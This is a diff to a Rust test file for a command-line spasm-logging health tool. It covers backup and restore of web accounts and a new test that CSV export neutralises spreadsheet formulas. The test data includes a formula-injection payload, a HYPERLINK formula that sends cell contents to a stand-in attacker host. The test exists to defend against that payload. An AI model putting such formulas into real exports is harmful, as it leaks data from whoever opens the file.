@@ -117,10 +117,36 @@ fn backup_and_restore(src: &Db, format: &str, dir: &Path) {
         Some(2)
     );
     let dst = sqlite_db();
-    ok(&dst, &["restore", "--from", f]);
+    // `demo` made a web account: an SQLite backup holds it, and restore, which copies
+    // patients and their records only, refuses to drop it silently.
+    let mut restore = vec!["restore", "--from", f];
+    if format == "sqlite" {
+        let refused = tonus(&dst, &restore);
+        let err = String::from_utf8_lossy(&refused.stderr);
+        assert_eq!(refused.status.code(), Some(2), "{err}");
+        assert!(
+            err.contains("web accounts (1)") && err.contains("Nothing was restored"),
+            "{err}"
+        );
+        assert!(err.contains("--records-only"), "{err}");
+        assert_eq!(ok(&dst, &["patient", "list", "--json"]).trim(), "[]");
+        restore.push("--records-only");
+        let done = ok(&dst, &[&restore[..], &["--json"]].concat());
+        let report: Value = serde_json::from_str(&done).unwrap();
+        assert!(
+            report["not_restored"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|n| n["what"] == "web accounts" && n["count"] == 1),
+            "{report}"
+        );
+    } else {
+        ok(&dst, &restore);
+    }
     assert_eq!(archive_patients(src, "demo"), archive_patients(&dst, "demo"));
     // Restoring over an existing patient needs --replace.
-    let again = tonus(&dst, &["restore", "--from", f]);
+    let again = tonus(&dst, &restore);
     assert_eq!(
         again.status.code(),
         Some(2),
@@ -128,7 +154,7 @@ fn backup_and_restore(src: &Db, format: &str, dir: &Path) {
         String::from_utf8_lossy(&again.stderr)
     );
     ok(&dst, &["log", "spasm", "--kind", "cramp", "--patient", "demo"]);
-    ok(&dst, &["restore", "--from", f, "--replace"]);
+    ok(&dst, &[&restore[..], &["--replace"]].concat());
     assert_eq!(archive_patients(src, "demo"), archive_patients(&dst, "demo"));
 }
 
@@ -188,4 +214,63 @@ fn a_patient_can_delete_their_account() {
         .map(|p| p["handle"].as_str().unwrap())
         .collect();
     assert_eq!(names, vec!["other"]);
+}
+
+#[test]
+fn csv_export_neutralises_formulas_and_excel_style_round_trips() {
+    let src = sqlite_db();
+    ok(&src, &["patient", "add", "me", "--tz", "Europe/Paris"]);
+    let notes = [
+        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
+        "'=already marked",
+        "-2 after stretching",
+        "Crampe à la cuisse, ça tire — 足がつる",
+        "'tis the season",
+    ];
+    for (i, note) in notes.iter().enumerate() {
+        let at = format!("2026-01-1{i} 08:00");
+        ok(
+            &src,
+            &["log", "spasm", "--kind", "cramp", "--at", &at, "--note", note, "-q"],
+        );
+    }
+    let dir = tempfile::tempdir().unwrap();
+    for excel in [false, true] {
+        let out = dir.path().join(format!("excel-{excel}"));
+        let mut args = vec!["export", "csv", "--out-dir", out.to_str().unwrap(), "-q"];
+        if excel {
+            args.push("--excel");
+        }
+        ok(&src, &args);
+        let bytes = std::fs::read(out.join("episodes.csv")).unwrap();
+        assert_eq!(bytes.starts_with("\u{feff}".as_bytes()), excel);
+        let text = String::from_utf8(bytes).unwrap();
+        assert_eq!(text.contains("\r\n"), excel, "{text}");
+        // No cell starts a formula: every cell of the notes column is marked text.
+        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let col = reader.headers().unwrap().iter().position(|h| h == "notes").unwrap();
+        let cells: Vec<String> = reader.records().map(|r| r.unwrap()[col].to_string()).collect();
+        assert!(
+            cells.contains(&"'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")".to_string()),
+            "{cells:?}"
+        );
+        assert!(cells.contains(&"''=already marked".to_string()), "{cells:?}");
+        assert!(cells.contains(&"'-2 after stretching".to_string()), "{cells:?}");
+        assert!(cells.contains(&"'tis the season".to_string()), "{cells:?}");
+        for c in &cells {
+            assert!(!c.starts_with(['=', '+', '-', '@']), "live formula cell {c:?}");
+        }
+
+        let dst = sqlite_db();
+        ok(&dst, &["patient", "add", "me", "--tz", "Europe/Paris"]);
+        ok(
+            &dst,
+            &["import", "csv", "-q", out.join("episodes.csv").to_str().unwrap()],
+        );
+        assert_eq!(
+            archive_patients(&src, "me"),
+            archive_patients(&dst, "me"),
+            "excel={excel}"
+        );
+    }
 }
